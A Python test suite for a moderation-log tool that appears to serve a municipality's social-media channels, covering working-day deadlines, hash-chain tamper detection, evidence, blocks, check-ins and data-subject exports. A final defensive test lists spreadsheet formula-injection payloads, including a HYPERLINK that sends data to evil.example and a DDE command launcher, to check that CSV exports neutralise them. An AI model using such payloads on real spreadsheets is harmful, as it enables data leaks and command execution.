"""The moderation log: deadlines in working days, the hash chain and its verification,
evidence, blocks, monitoring check-ins, response times and data subject requests."""

from __future__ import annotations

import json
import sqlite3
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine, text
from sqlmodel import Session, col, select

from kuntasome.core.channels.register import create_channel
from kuntasome.core.errors import StaleRecord
from kuntasome.core.models import AuditLog, Evidence
from kuntasome.core.moderation.blocks import BlockError, add_block, blocks_csv, list_blocks, unblock
from kuntasome.core.moderation.evidence import (
    EvidenceError,
    original_path,
    pdf_path,
    store_evidence,
)
from kuntasome.core.moderation.export import entries_csv, subject_json
from kuntasome.core.moderation.log import (
    EntryDraft,
    ModerationError,
    append_entry,
    draft_from,
    keep_until,
    list_entries,
    load_history,
    record_answer,
)
from kuntasome.core.moderation.monitoring import check_in, check_status, checkin_grid
from kuntasome.core.moderation.response_times import response_figures
from kuntasome.core.moderation.settings import (
    ModerationSettings,
    load_moderation_settings,
    save_moderation_settings,
)
from kuntasome.core.moderation.verify import verify_log
from kuntasome.core.organisation import load_organisation, save_organisation
from kuntasome.core.people import PersonDetails, save_person
from kuntasome.core.working_time import answer_due

FI = ZoneInfo("Europe/Helsinki")
SE = ZoneInfo("Europe/Stockholm")
plain = lambda _context, text: text  # noqa: E731


def _fi(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=FI)


# -- deadlines -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("country", "tz", "arrived", "within", "due"),
    [
        # Thursday before midsummer: Friday is juhannusaatto / midsommarafton → Monday.
        ("FI", FI, datetime(2026, 6, 18, 15, 0), 1, datetime(2026, 6, 22, 16, 0)),
        ("SE", SE, datetime(2026, 6, 18, 15, 0), 1, datetime(2026, 6, 22, 16, 0)),
        # After office hours on 23 December: counted from the 28th (24–27 closed) → 29th.
        ("FI", FI, datetime(2026, 12, 23, 17, 0), 1, datetime(2026, 12, 29, 16, 0)),
        ("SE", SE, datetime(2026, 12, 23, 17, 0), 1, datetime(2026, 12, 29, 16, 0)),
        # Same working day when so configured; a Saturday comment is due on Monday.
        ("FI", FI, datetime(2026, 11, 23, 10, 0), 0, datetime(2026, 11, 23, 16, 0)),
        ("FI", FI, datetime(2026, 11, 21, 10, 0), 0, datetime(2026, 11, 23, 16, 0)),
        # Epiphany (Tuesday 6 January 2026) is a holiday in both countries.
        ("SE", SE, datetime(2026, 1, 5, 9, 0), 1, datetime(2026, 1, 7, 16, 0)),
    ],
)
def test_answers_are_due_in_working_days_across_holidays(
    country: str, tz: ZoneInfo, arrived: datetime, within: int, due: datetime
) -> None:
    settings = ModerationSettings(answer_within_working_days=within)
    got = answer_due(arrived.replace(tzinfo=tz), country=country, tz=tz, settings=settings)
    assert got == due.replace(tzinfo=tz)


# -- the log ---------------------------------------------------------------------------------
@pytest.fixture
def town(engine: Engine) -> dict[str, int]:
    fb = create_channel(engine, platform="facebook", address="kallioranta", status="active")
    ig = create_channel(engine, platform="instagram", address="kallioranta", status="active")
    sari = save_person(engine, PersonDetails(name="Sari Virtanen", roles=("moderator",)))
    return {"fb": fb.id or 0, "ig": ig.id or 0, "sari": sari.id}


def _question(town: dict[str, int], **changes: object) -> EntryDraft:
    draft = EntryDraft(
        channel_id=town["fb"],
        kind="question",
        action="answered",
        posted_at=_fi(date(2026, 11, 23), 9),
        seen_at=_fi(date(2026, 11, 23), 10),
        author_handle="matti123",
        comment_url="https://www.facebook.com/kallioranta/posts/1?comment_id=9",
        comment_text="Milloin uimahalli aukeaa?",
        handler_id=town["sari"],
    )
    for name, value in changes.items():
        setattr(draft, name, value)
    return draft


def test_entries_chain_and_verify_and_corrections_supersede(
    engine: Engine, town: dict[str, int], tmp_path: Path
) -> None:
    first = append_entry(engine, _question(town), actor_id=town["sari"])
    second = append_entry(
        engine, _question(town, author_handle="liisa", kind="feedback", action="no_action")
    )
    entry = load_history(engine, first).entry
    # Posted Monday 9:00, due at the latest when the office closes on Tuesday.
    assert entry.due_at == _fi(date(2026, 11, 24), 16)
    assert entry.is_open() and entry.is_overdue(_fi(date(2026, 11, 25), 8))

    answered = record_answer(
        engine, first, "Maanantaina klo 6.", _fi(date(2026, 11, 23), 11), handler_id=None
    )
    rows = list_entries(engine, tz=FI)
    assert [r.id for r in rows] == [answered, second]  # the original is superseded
    latest = load_history(engine, answered)
    assert latest.entry.answer_text == "Maanantaina klo 6." and not latest.entry.is_open()
    assert latest.entry.due_at == entry.due_at  # a correction keeps the deadline
    assert [v.id for v in latest.versions] == [first]
    with pytest.raises(ModerationError, match="already been corrected"):
        append_entry(engine, draft_from(entry))
    everything = list_entries(engine, tz=FI, include_superseded=True)
    assert {r.id for r in everything if r.superseded} == {first}

    report = verify_log(engine, tmp_path)
    assert report.ok and report.entries == 3


def test_an_entry_is_refused_with_a_named_reason(engine: Engine, town: dict[str, int]) -> None:
    with pytest.raises(ModerationError, match="reason for hiding"):
        append_entry(engine, _question(town, action="hidden", kind="inappropriate"))
    with pytest.raises(ModerationError, match="case number"):
        append_entry(engine, _question(town, action="forwarded"))
    with pytest.raises(ModerationError, match="seen before it was posted"):
        append_entry(engine, _question(town, seen_at=_fi(date(2026, 11, 22), 10)))
    with pytest.raises(ModerationError, match="screenshot"):
        append_entry(
            engine, _question(town, action="removed", kind="inappropriate", reason_code="spam")
        )
    assert list_entries(engine, tz=FI) == []


def test_removal_needs_evidence_or_a_logged_override(
    engine: Engine, town: dict[str, int], tmp_path: Path, qapp: object
) -> None:
    from PySide6.QtGui import QColor, QImage

    from kuntasome.documents.evidence_pdf import render_evidence_pdf
    from kuntasome.documents.language import Writing

    override = "Kommentti oli jo poistunut, kun se huomattiin."
    entry_id = append_entry(
        engine,
        _question(
            town,
            action="removed",
            kind="inappropriate",
            reason_code="spam",
            no_evidence_reason=override,
        ),
        actor_id=town["sari"],
    )
    with Session(engine) as s:
        logged = s.exec(
            select(AuditLog).where(
                AuditLog.entity == "moderationentry", AuditLog.entity_id == entry_id
            )
        ).one()
    assert json.loads(logged.details)["no_evidence_reason"] == override

    picture = tmp_path / "kuvakaappaus.png"
    image = QImage(640, 200, QImage.Format.Format_ARGB32)
    image.fill(QColor(250, 240, 230, 128))
    assert image.save(str(picture))
    folder = tmp_path / "evidence"
    (tmp_path / "x.txt").write_text("x")
    with pytest.raises(EvidenceError, match="not a picture"):
        store_evidence(
            folder,
            tmp_path / "x.txt",
            render_pdf=lambda path, meta: render_evidence_pdf(path, meta, FI, Writing("fi")),
            channel="",
            comment_url="",
            captured_by="",
            captured_by_id=None,
            reason="",
        )
    evidence = store_evidence(
        folder,
        picture,
        render_pdf=lambda path, meta: render_evidence_pdf(path, meta, FI, Writing("fi")),
        channel="Kallioranta (Facebook)",
        comment_url="https://www.facebook.com/kallioranta/posts/1?comment_id=9",
        captured_by="Sari Virtanen",
        captured_by_id=town["sari"],
        reason="Roskaposti",
    )
    assert original_path(folder, evidence.sha256, evidence.original_name).read_bytes() == (
        picture.read_bytes()
    )
    pdf = pdf_path(folder, evidence.pdf_sha256).read_bytes()
    assert pdf.startswith(b"%PDF") and b"pdfaid:part" in pdf
    removed = append_entry(
        engine,
        _question(town, action="removed", kind="inappropriate", reason_code="spam"),
        evidence=[evidence],
    )
    assert load_history(engine, removed).entry.evidence_count == 1
    # A correction of the removal keeps its evidence from the earlier version.
    fixed = append_entry(engine, draft_from(load_history(engine, removed).entry))
    assert [e.sha256 for e in load_history(engine, fixed).evidence] == [evidence.sha256]
    assert verify_log(engine, folder).ok

    # One byte of the PDF changed on disk is found and named.
    target = pdf_path(folder, evidence.pdf_sha256)
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0x01
    target.write_bytes(bytes(data))
    report = verify_log(engine, folder)
    assert not report.ok
    assert [p.params for p in report.problems] == [{"file": target.name, "id": removed}]
    assert "has been changed" in report.problems[0].translated(plain)


# One process, and the log checked in three parts side by side (issue 17, item 19): the
# same findings, also where a change falls on the first entry of a part or between parts.
@pytest.mark.parametrize("processes", [1, 3])
def test_verify_finds_a_changed_a_removed_and_a_cut_off_entry(
    engine: Engine, town: dict[str, int], tmp_path: Path, processes: int
) -> None:
    ids = [
        append_entry(engine, _question(town, author_handle=f"user{i}", action="no_action"))
        for i in range(6)
    ]
    assert verify_log(engine, tmp_path, processes=processes).ok
    with engine.begin() as conn:  # someone edits the database file directly
        conn.execute(
            text("UPDATE moderationentry SET comment_text = 'muutettu' WHERE id = :id"),
            {"id": ids[2]},
        )
    report = verify_log(engine, tmp_path, processes=processes)
    assert report.first_broken_entry == ids[2]
    assert "Entry 3 has been changed" in report.problems[0].translated(plain)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE moderationentry SET comment_text = :t WHERE id = :id"),
            {"t": "Milloin uimahalli aukeaa?", "id": ids[2]},
        )
        conn.execute(text("DELETE FROM moderationentry WHERE id = :id"), {"id": ids[3]})
    report = verify_log(engine, tmp_path, processes=processes)
    assert report.first_broken_entry == ids[4]
    assert "does not follow entry 3" in report.problems[0].translated(plain)
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM moderationentry WHERE id >= :id"), {"id": ids[3]})
    report = verify_log(engine, tmp_path, processes=processes)
    assert [p.params for p in report.problems] == [{"last": ids[2], "head": str(ids[5])}]


def test_a_changed_row_in_the_sqlite_file_is_detected(tmp_path: Path) -> None:
    from kuntasome.core.database import prepare_database
    from kuntasome.core.db import make_engine

    path = tmp_path / "kuntasome.sqlite"
    prepare_database(f"sqlite:///{path.as_posix()}", create=True)
    engine = make_engine(f"sqlite:///{path.as_posix()}")
    channel = create_channel(engine, platform="facebook", address="kallioranta", status="active")
    town = {"fb": channel.id or 0, "sari": None}
    entry = append_entry(engine, _question(town))  # type: ignore[arg-type]
    append_entry(engine, _question(town, author_handle="toinen"))  # type: ignore[arg-type]
    assert verify_log(engine, tmp_path).ok
    engine.dispose()
    con = sqlite3.connect(path)  # the file edited with any SQLite tool
    con.execute(
        "UPDATE moderationentry SET seen_at = '2026-11-23 09:30:00.000000' WHERE id = ?", (entry,)
    )
    con.commit()
    con.close()
    assert verify_log(engine, tmp_path).first_broken_entry == entry
    engine.dispose()


# -- blocks ----------------------------------------------------------------------------------
def test_blocks_are_a_register_with_unblocking(engine: Engine, town: dict[str, int]) -> None:
    with pytest.raises(BlockError, match="reason"):
        add_block(
            engine,
            channel_id=town["fb"],
            account="troll",
            blocked_on=date(2026, 11, 2),
            decided_by_id=town["sari"],
            reason=" ",
        )
    block_id = add_block(
        engine,
        channel_id=town["fb"],
        account="Troll",
        blocked_on=date(2026, 11, 2),
        decided_by_id=town["sari"],
        reason="Toistuva häiriköinti.",
    )
    (row,) = list_blocks(engine, account="troll")
    assert row.active and row.platform == "facebook" and row.decided_by == "Sari Virtanen"
    with pytest.raises(BlockError, match="before"):
        unblock(engine, block_id, row.version_id, unblocked_on=date(2026, 11, 1), reason="x")
    unblock(
        engine, block_id, row.version_id, unblocked_on=date(2026, 11, 20), reason="Pyysi anteeksi."
    )
    with pytest.raises(StaleRecord):
        unblock(engine, block_id, row.version_id, unblocked_on=date(2026, 11, 21), reason="x")
    assert list_blocks(engine, include_unblocked=False) == []
    csv = blocks_csv(list_blocks(engine), plain).decode("utf-8-sig").splitlines()
    assert csv[0].startswith("Platform;Channel;Account")
    assert (
        "Troll;2026-11-02;Sari Virtanen;Toistuva häiriköinti.;;2026-11-20;Pyysi anteeksi." in csv[1]
    )


# -- monitoring ------------------------------------------------------------------------------
def test_checkins_show_gaps_and_when_a_check_is_due(engine: Engine, town: dict[str, int]) -> None:
    settings = ModerationSettings(checkins_per_working_day=3)
    monday = date(2026, 11, 23)
    kw = {"tz": FI, "country": "FI", "settings": settings}
    status = check_status(engine, now=_fi(monday, 8, 30), **kw)
    assert status.due and status.next_due_at == _fi(monday, 8)
    check_in(engine, [town["fb"], town["ig"]], person_id=town["sari"], at=_fi(monday, 8, 40))
    status = check_status(engine, now=_fi(monday, 9), **kw)
    # Office 8–16 in three stretches of 2 h 40 min: next check at 11:20.
    assert not status.due and status.next_due_at == _fi(monday, 11, 20)
    check_in(engine, [town["fb"]], person_id=None, at=_fi(monday, 11, 30))
    # Instagram was last checked at 8:40, so a check is still due at noon.
    assert check_status(engine, now=_fi(monday, 12), **kw).due
    check_in(engine, [town["fb"], town["ig"]], person_id=None, at=_fi(monday, 15))
    grid = checkin_grid(engine, monday, monday + timedelta(days=6), **kw)
    assert grid.days == [monday + timedelta(days=i) for i in range(5)]  # no weekend
    assert grid.count(town["fb"], monday) == 3 and grid.count(town["ig"], monday) == 2
    assert (town["ig"], monday) in grid.gaps() and (town["fb"], monday) not in grid.gaps()
    # Saturday: nothing due until the office opens on Monday.
    saturday = check_status(engine, now=_fi(date(2026, 11, 28), 10), **kw)
    assert not saturday.due and saturday.next_due_at == _fi(date(2026, 11, 30), 8)


# -- figures, retention, data subjects, settings --------------------------------------------
def test_response_figures_retention_and_a_data_subject_export(
    engine: Engine, town: dict[str, int]
) -> None:
    monday = date(2026, 11, 23)
    on_time = append_entry(
        engine, _question(town, answered_at=_fi(monday, 12), answer_text="Klo 6.")
    )
    late = append_entry(
        engine,
        _question(
            town,
            author_handle="Matti123",
            answered_at=_fi(monday + timedelta(days=3), 9),
            answer_text="Anteeksi viive.",
        ),
    )
    append_entry(engine, _question(town, channel_id=town["ig"], author_handle="liisa"))
    rows = list_entries(engine, tz=FI, first=monday, last=monday)
    figures = response_figures(rows, now=_fi(monday + timedelta(days=5), 9))
    fb = next(f for f in figures if f.channel_id == town["fb"])
    assert (fb.answered, fb.on_time, fb.late, fb.open) == (2, 1, 1, 0)
    assert fb.median_hours == pytest.approx((3 + 72) / 2)
    total = figures[-1]
    assert total.channel_id is None and (total.open, total.overdue) == (1, 1)

    settings = ModerationSettings(keep_other_entries_years=2)
    assert (
        keep_until(load_history(engine, on_time).entry, settings).year == datetime.now(UTC).year + 2
    )

    mine = list_entries(engine, tz=FI, account="MATTI123")
    assert {r.id for r in mine} == {on_time, late}
    document = json.loads(subject_json("matti123", mine, []))
    assert [e["comment"] for e in document["moderation_entries"]] == [
        "Milloin uimahalli aukeaa?"
    ] * 2
    csv = entries_csv(mine, FI, plain, {}).decode("utf-8-sig")
    assert "Anteeksi viive." in csv and "liisa" not in csv


def test_moderation_settings_round_trip(engine: Engine) -> None:
    assert load_moderation_settings(engine) == ModerationSettings()
    changed = ModerationSettings(answer_within_working_days=0, office_closes=time(15, 30))
    save_moderation_settings(engine, changed)
    assert load_moderation_settings(engine) == changed
    with pytest.raises(ValueError):
        save_moderation_settings(engine, ModerationSettings(office_opens=time(17)))
    save_organisation(engine, load_organisation(engine))
    with Session(engine) as s:
        assert s.exec(select(Evidence).where(col(Evidence.id) > 0)).all() == []


def test_colleagues_appending_at_the_same_time_keep_one_chain(
    db_url: str, engine: Engine, town: dict[str, int], tmp_path: Path
) -> None:
    from concurrent.futures import ThreadPoolExecutor

    from kuntasome.core.db import make_engine

    engines = [make_engine(db_url) for _ in range(3)]  # three laptops on one database

    def write(n: int) -> list[int]:
        return [
            append_entry(engines[n], _question(town, author_handle=f"u{n}-{i}", action="no_action"))
            for i in range(8)
        ]

    with ThreadPoolExecutor(3) as pool:
        ids = [i for chunk in pool.map(write, range(3)) for i in chunk]
    for other in engines:
        other.dispose()
    assert sorted(ids) == list(range(1, 25))
    report = verify_log(engine, tmp_path)
    assert report.ok and report.entries == 24


# -- what the public wrote is data, never a formula (issue 20, family 5) ---------------------
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"Klikkaa")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def test_the_exports_for_excel_never_hold_a_formula(engine: Engine, town: dict[str, int]) -> None:
    import csv as csv_module
    import io

    for i, text_ in enumerate(HOSTILE):
        append_entry(
            engine,
            _question(
                town,
                author_handle=text_,
                comment_text=text_,
                answer_text=text_,
                action="no_action",
                comment_url=f"https://www.facebook.com/kallioranta/posts/{i}",
            ),
        )
        add_block(
            engine,
            channel_id=town["fb"],
            account=text_,
            blocked_on=date(2026, 11, 2),
            decided_by_id=town["sari"],
            reason=text_,
        )
    rows = list_entries(engine, tz=FI)
    exports = {
        "moderation log": entries_csv(rows, FI, plain, {}),
        "blocked accounts": blocks_csv(list_blocks(engine), plain),
    }
    for name, data in exports.items():
        table = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        cells = [c for row in table[1:] for c in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not dangerous, (name, dangerous[:3])
        # The text is kept (a block's account and reason without the blanks around them),
        # after the apostrophe that says it was neutralised.
        for text_ in HOSTILE:
            assert "'" + text_ in cells or "'" + text_.strip() in cells, (name, text_)


def test_a_cell_is_neutralised_only_when_it_would_start_a_formula() -> None:
    from kuntasome.core.excel_csv import excel_csv, spreadsheet_text

    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("Hyvä kysymys = hyvä vastaus") == "Hyvä kysymys = hyvä vastaus"
    assert spreadsheet_text(-5) == -5 and spreadsheet_text(None) is None  # numbers stay numbers
    assert excel_csv([["a", "=b"], [1, "-c"]]) == "\ufeffa;'=b\r\n1;'-c\r\n".encode()
